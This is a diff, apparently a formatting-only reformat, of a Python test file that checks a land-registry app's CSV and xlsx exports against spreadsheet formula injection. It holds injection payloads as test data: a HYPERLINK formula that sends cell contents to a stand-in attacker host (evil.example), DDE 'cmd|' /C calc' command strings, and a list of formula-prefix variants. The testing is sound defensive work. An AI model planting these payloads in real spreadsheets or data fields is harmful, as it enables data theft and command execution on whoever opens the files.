@@ -17,14 +17,28 @@ from landcycle.audit.models import AuditEntry
 from landcycle.ledgers.export import ledger_export
 from landcycle.ledgers.services import ledger_import
 from landcycle.registry import services
-from landcycle.registry.models import Enterprise, Park, Parcel
+from landcycle.registry.models import Enterprise, Parcel, Park
 from landcycle.rules.formula_guard import csv_restore, csv_text, is_formula_like
 from landcycle.rules.ledger.sources import open_source
 
 LINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看")'
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
-DANGEROUS = [LINK, SUM, "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "-", "'=1+1",
-             "''@x", "'-3"]
+DANGEROUS = [
+    LINK,
+    SUM,
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1+1",
+    "＠SUM(A1)",
+    "-",
+    "'=1+1",
+    "''@x",
+    "'-3",
+]
 HARMLESS = ["慈溪市新浦镇电器有限公司", "-12.50", "+3", "\t913302820001", "'", "a=b", "O'Brien", "", "1-2"]
 
 
@@ -68,15 +82,17 @@ def planted(registry_data, personas):
     officer = personas["xinpu"]
     xp = registry_data[XINPU]
     services.enterprise_update(actor=officer, enterprise=xp["owner"], name=LINK, contact=SUM)
-    services.park_update(actor=officer, park=xp["park"], name="＝HYPERLINK(\"http://x\")", note="-2+3+cmd|' /C calc'!A0")
+    services.park_update(actor=officer, park=xp["park"], name='＝HYPERLINK("http://x")', note="-2+3+cmd|' /C calc'!A0")
     services.parcel_update(actor=officer, parcel=xp["parcels"][0], address="@SUM(A1:A9)")
     return xp
 
 
-@pytest.mark.parametrize("list_name,kind", [("enterprise_list", "enterprises"), ("park_list", "parks"),
-                                            ("parcel_list", "parcels")])
-def test_list_exports_keep_planted_formulas_as_text_and_import_back_unchanged(client, planted, personas, list_name,
-                                                                              kind):
+@pytest.mark.parametrize(
+    "list_name,kind", [("enterprise_list", "enterprises"), ("park_list", "parks"), ("parcel_list", "parcels")]
+)
+def test_list_exports_keep_planted_formulas_as_text_and_import_back_unchanged(
+    client, planted, personas, list_name, kind
+):
     client.force_login(personas["admin"])
     data = _body(client.get(reverse(list_name), {"export": "csv"}))
     rows = _csv_rows(data)
@@ -93,7 +109,7 @@ def test_list_exports_keep_planted_formulas_as_text_and_import_back_unchanged(cl
     assert report.ok and report.changed == 0 and report.unchanged > 0, report.problems
     assert AuditEntry.objects.count() == audit
     assert Enterprise.objects.get(pk=planted["owner"].pk).name == LINK
-    assert Park.objects.get(pk=planted["park"].pk).name == "＝HYPERLINK(\"http://x\")"
+    assert Park.objects.get(pk=planted["park"].pk).name == '＝HYPERLINK("http://x")'
     assert Parcel.objects.get(pk=planted["parcels"][0].pk).address == "@SUM(A1:A9)"
     # the .xlsx of the same list: the text is a string cell, never a formula, and reads back as typed
     xlsx = _body(client.get(reverse(list_name), {"export": "xlsx"}))
@@ -129,13 +145,12 @@ def test_rectification_ledger_csv_and_warning_board_csv(client, supervision_data
     from landcycle.supervision.models import Warning
 
     task = rectification_data[XINPU]["task"]
-    Task.objects.filter(pk=task.pk).update(title="=HYPERLINK(\"http://x\",\"整改\")", measures="@SUM(A1)",
-                                           person="-1+2")
+    Task.objects.filter(pk=task.pk).update(title='=HYPERLINK("http://x","整改")', measures="@SUM(A1)", person="-1+2")
     Warning.objects.filter(town__code=XINPU).update(reason_zh="=1+1 逾期")
     client.force_login(personas["supervisor"])
     rows = _csv_rows(_body(client.get(reverse("rectification_ledger"), {"export": "csv"})))
     _no_live_cell(rows)
-    assert any("'=HYPERLINK(\"http://x\",\"整改\")" in r for r in rows)
+    assert any('\'=HYPERLINK("http://x","整改")' in r for r in rows)
     assert any("'@SUM(A1)" in r for r in rows) and any("'-1+2" in r for r in rows)
     xlsx = _body(client.get(reverse("rectification_ledger"), {"export": "xlsx"}))
     assert "<f>" not in sheet_xml(xlsx)
@@ -148,12 +163,36 @@ def test_rectification_ledger_csv_and_warning_board_csv(client, supervision_data
 def test_supervision_report_never_writes_a_formula():
     from landcycle.supervision.export import report_xlsx
 
-    summary = {k: 0 for k in ("rows_read", "selected", "supervised", "not_supervised", "red", "yellow", "green",
-                              "blue", "grey", "idle", "idle_exempt", "take_back", "fees_wan", "fee_unknown")}
-    d = {"as_of": "2026-11-29", "policy": {"name": "p", "version": "1", "hash": "h"},
-         "source": {"file": "=HYPERLINK(\"http://x\").xlsx"}, "selection": "@SUM(1)", "summary": summary,
-         "notes": [{"zh": "+1+1"}], "contracts": [], "problems": []}
+    summary = {
+        k: 0
+        for k in (
+            "rows_read",
+            "selected",
+            "supervised",
+            "not_supervised",
+            "red",
+            "yellow",
+            "green",
+            "blue",
+            "grey",
+            "idle",
+            "idle_exempt",
+            "take_back",
+            "fees_wan",
+            "fee_unknown",
+        )
+    }
+    d = {
+        "as_of": "2026-11-29",
+        "policy": {"name": "p", "version": "1", "hash": "h"},
+        "source": {"file": '=HYPERLINK("http://x").xlsx'},
+        "selection": "@SUM(1)",
+        "summary": summary,
+        "notes": [{"zh": "+1+1"}],
+        "contracts": [],
+        "problems": [],
+    }
     data = report_xlsx(d)
     book = read_book(data)
-    assert ["来源文件", "=HYPERLINK(\"http://x\").xlsx"] in book["说明"] and ["筛选", "@SUM(1)"] in book["说明"]
+    assert ["来源文件", '=HYPERLINK("http://x").xlsx'] in book["说明"] and ["筛选", "@SUM(1)"] in book["说明"]
     assert "<f>" not in "".join(sheet_xml(data, n) for n in range(1, 5))
